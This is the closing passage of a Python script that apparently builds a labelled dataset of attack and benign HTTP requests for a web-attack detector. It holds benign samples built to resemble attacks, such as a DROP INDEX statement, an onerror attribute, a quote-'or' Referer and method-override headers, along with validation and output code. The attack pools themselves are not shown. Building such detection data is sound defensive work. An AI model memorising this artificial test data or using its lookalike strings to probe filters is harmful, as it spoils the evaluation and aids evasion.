            ("const sleep = (ms) => new Promise(r => setTimeout(r, ms));", True),
            ('<img src="{{ avatar }}" alt="avatar" onerror="this.src=\'/img/default.png\'">', True),
            (
                "DROP INDEX IF EXISTS idx_orders_created_at;\nCREATE INDEX idx_orders_created_at ON orders (created_at);",
                True,
            ),
            ('while read -r line; do echo "$line"; done < input.txt', True),
            ("Runtime.getRuntime().availableProcessors()", True),
            ("df.groupby('region')['sales'].sum().sort_values(ascending=False)", False),
            ("SELECT 1;", True),
            ("echo $((3 + 4))", True),
            ("fetch('/api/v1/me').then(r => r.json()).then(console.log);", False),
        ]
        return [S(t, h, pl=["json", "form", "query"]) for t, h in items]
    if cat == "benign_ldap_like":
        out = []
        for _ in range(12):
            fn_, ln = pick(FIRST), pick(LAST).replace("'", "")
            out.append(S(f"cn={ln}\\, {fn_},ou=People,dc=corp,dc=net", True))
            out.append(S(ln[: R.randint(3, 5)] + "*", False))
            out.append(S(f"uid={fn_.lower()}.{ln.lower()},ou=Staff,dc={pick(CORP).split('.')[0]},dc=com", False))
        return out
    if cat == "benign_urls":
        out = []
        for _ in range(10):
            c = corp()
            out.append(
                S(
                    f"https://www.{c}/blog/{pick(['launch', 'q4-update', 'hiring', 'security-review'])}?utm_source=twitter&utm_medium=social&utm_campaign=c{n()}",
                    False,
                )
            )
            out.append(S(f"https://{pick(HOSTS)}/oauth/callback?code={ralnum(20)}&state={rhex(16)}", True))
            out.append(S(f"https://www.{c}/account?tab=security#2fa", False))
        return out
    if cat == "benign_commerce":
        easy = [
            "Size 10.5 (US) / 44 (EU)",
            "Pack of 6 -- 500 ml (16.9 fl oz)",
            "Colour: Navy/White stripes",
            "XMAS-2026-FREESHIP",
            "Leave with neighbour at No. 12",
            "Gift note: Happy retirement, Bob! -- from the team",
            "Invoice to: ACME GmbH, USt-IdNr. DE123456789",
            "Pre-order: ships 2027-01-15",
        ]
        hard = [
            "Deliver to: Jane O'Hara, 221B Baker St",
            "Coupon 'BLACKFRIDAY' didn't apply",
            "Item #A-1029 & #A-1030 together please",
            'Engraving: "Forever & Always <3"',
            "Ship by 12/24; it's a gift!!",
            "2 x Espresso cups (select color: red)",
            "Apartment 3B; buzz #301",
        ]
        return [S(t, False) for t in easy] + [S(t, True) for t in hard]
    if cat == "benign_headers":
        H = lambda nm, v, h: S(v, h, pl=["header"], hn=nm)
        return [
            H(
                "User-Agent",
                "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 [FBAN/EMA;FBLC/en_US;FBAV/392.0.0.12.106;]",
                True,
            ),
            H(
                "User-Agent",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 312.0.0.32.112 (iPhone14,5; iOS 17_4; en_US; en-US; scale=3.00; 1170x2532; 548339486)",
                True,
            ),
            H(
                "User-Agent",
                "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; .NET CLR 2.0.50727; Media Center PC 6.0)",
                True,
            ),
            H("X-Wap-Profile", "http://wap.samsungmobile.com/uaprof/SM-G991B.xml", True),
            H(
                "Authorization",
                'OAuth oauth_consumer_key="'
                + ralnum(25)
                + '", oauth_nonce="'
                + ralnum(32)
                + '", oauth_signature="'
                + quote(b64(rbytes(20)), safe="")
                + '", oauth_signature_method="HMAC-SHA1", oauth_timestamp="1767100000", oauth_version="1.0"',
                True,
            ),
            H("X-HTTP-Method-Override", "DELETE", True),
            H("X-Real-IP", "::ffff:10.0.0.5", True),
            H("X-Original-URL", "/en-us/account/settings", True),
            H("X-Debug-Info", '{"build":"2026.12.07-1","flags":["new-nav","dark"]}', True),
            H("Referer", "https://shop.brightcedar.com/search?q=%27or%27+shoes&sort=price", True),
            H("X-Forwarded-For", "10.0.0.1, unknown, 192.168.1.20", True),
            H("Accept", "application/json;q=0.9, text/plain;q=0.8, */*;q=0.1", True),
            H("Save-Data", "on", False),
            H("Accept-Charset", "utf-8, iso-8859-1;q=0.5", False),
            H("Sec-Fetch-Dest", "document", False),
        ]
    if cat == "benign_richtext":
        out = []
        for _ in range(8):
            nm, c = pick(FIRST), corp()
            out.append(
                S(
                    f'<p>Hi {nm},</p><p>Your order <strong>#{n()}</strong> ships today. Track it <a href="https://www.{c}/track/{ralnum(10)}">here</a>.</p>',
                    True,
                )
            )
            out.append(
                S(
                    f"<h3>{pick(['Agenda', 'Notes', 'Update'])} &ndash; {R.randint(1, 28)} Dec</h3><ol><li>Intro ({nm})</li><li>Roadmap</li><li>Q&amp;A</li></ol>",
                    False,
                )
            )
            out.append(
                S(
                    f'<table border="1" style="border-collapse:collapse;width:100%"><tr><td>{nm}</td><td style="text-align:right">&euro;{R.randint(5, 900)},00</td></tr></table>',
                    True,
                )
            )
        return out
    return []


# ---------------------------------------------------------------------------
# Validation and output
# ---------------------------------------------------------------------------


def pct_ok(raw):
    i = 0
    while True:
        i = raw.find("%", i)
        if i < 0:
            return True
        h = raw[i + 1 : i + 3]
        if len(h) < 2 or any(c not in "0123456789abcdefABCDEF" for c in h):
            return False
        i += 1


def validate(row, check, ev):
    errs = []
    H = row["headers"]
    if list(H)[:3] != ["Host", "User-Agent", "Accept"]:
        errs.append("header order")
    if bool(row["body"]) != ("Content-Type" in H):
        errs.append("content-type/body mismatch")
    for k, v in H.items():
        if not v or not hv_clean(v):
            errs.append(f"bad header value {k}")
    for part in ("path", "query"):
        raw = row[part]
        if any(ord(c) <= 0x20 or ord(c) >= 0x7F or c == "#" for c in raw):
            errs.append(f"bad char in {part}")
        if not ev and not pct_ok(raw):
            errs.append(f"bad percent in {part}")
    if not row["path"].startswith("/"):
        errs.append("path must start with /")
    ct = H.get("Content-Type", "")
    body = row["body"]
    if ct.startswith("application/json"):
        try:
            json.loads(body)
        except ValueError as e:
            errs.append(f"json: {e}")
    elif ct.startswith("application/x-www-form-urlencoded"):
        if not ev and not pct_ok(body):
            errs.append("form percent")
        if any(ord(c) <= 0x20 or ord(c) >= 0x7F for c in body):
            errs.append("form raw char")
    elif ct.startswith("multipart/form-data"):
        bnd = ct.split("boundary=", 1)[1]
        if not body.startswith("--" + bnd + "\r\n") or not body.endswith("\r\n--" + bnd + "--\r\n"):
            errs.append("multipart framing")
        for chunk in body[len("--" + bnd + "\r\n") : -len("--" + bnd + "--\r\n")].split("--" + bnd + "\r\n"):
            if (
                "\r\n\r\n" not in chunk
                or not chunk.startswith("Content-Disposition: form-data; name=")
                or not chunk.endswith("\r\n")
            ):
                errs.append("multipart part")
    elif "xml" in ct:
        if row["label"] == "benign" or "<!DOCTYPE" not in body:
            try:
                p_ = xml.parsers.expat.ParserCreate()
                p_.Parse(body.encode("utf-8"), True)
            except xml.parsers.expat.ExpatError as e:
                if "xi:include" not in body and "xsl:" not in body:
                    errs.append(f"xml: {e}")
    elif body:
        errs.append("unknown body type")
    if check and not ev:
        kind, raw = check
        try:
            dec = unquote_to_bytes(raw.replace("+", " ") if kind == "f" else raw).decode("utf-8")
        except UnicodeDecodeError:
            dec = None
        if kind == "p":
            if dec is None or row["payload"] not in unquote_to_bytes(row["path"]).decode("utf-8", "replace"):
                errs.append("path payload mismatch")
        elif dec != row["payload"]:
            errs.append(f"{kind} payload mismatch")
    if not isinstance(row["payload"], str) or not row["payload"]:
        errs.append("empty payload")
    if row["placement"] in ("json", "json_key", "form", "multipart", "xml") and not body:
        errs.append("missing body")
    return errs


def main():
    rows = []
    for cat, fn in POOLS_A:
        rows += assign("attack", cat, fn() + fn(), DIST_A.get(cat, DIST_DEFAULT), 0.4)
    for cat, fn in POOLS_B:
        rows += assign("benign", cat, fn() + fn() + extra_b(cat), DIST_B[cat], 0)
    errors = []
    for row, check, ev in rows:
        for e in validate(row, check, ev):
            errors.append(f"{row['id']}: {e}")
    lines = [json.dumps(r, ensure_ascii=True) for r, _, _ in rows]
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(lines) + "\n")
    counts, plc, hard = {}, {}, {}
    for r, _, _ in rows:
        k = (r["label"], r["category"])
        counts[k] = counts.get(k, 0) + 1
        hard[k] = hard.get(k, 0) + (1 if r["hard"] else 0)
        pk = (r["label"], r["placement"])
        plc[pk] = plc.get(pk, 0) + 1
    print(f"wrote {len(rows)} rows to {OUT}")
    for k in sorted(counts):
        print(f"  {k[0]:7s} {k[1]:22s} {counts[k]:4d}  hard={hard[k]}")
    print("placements:")
    for k in sorted(plc):
        print(f"  {k[0]:7s} {k[1]:10s} {plc[k]:4d}")
    with open(OUT, "rb") as fh:
        print("sha256", hashlib.sha256(fh.read()).hexdigest())
    if errors:
        print(f"{len(errors)} validation problems:", file=sys.stderr)
        for e in errors[:60]:
            print("  " + e, file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
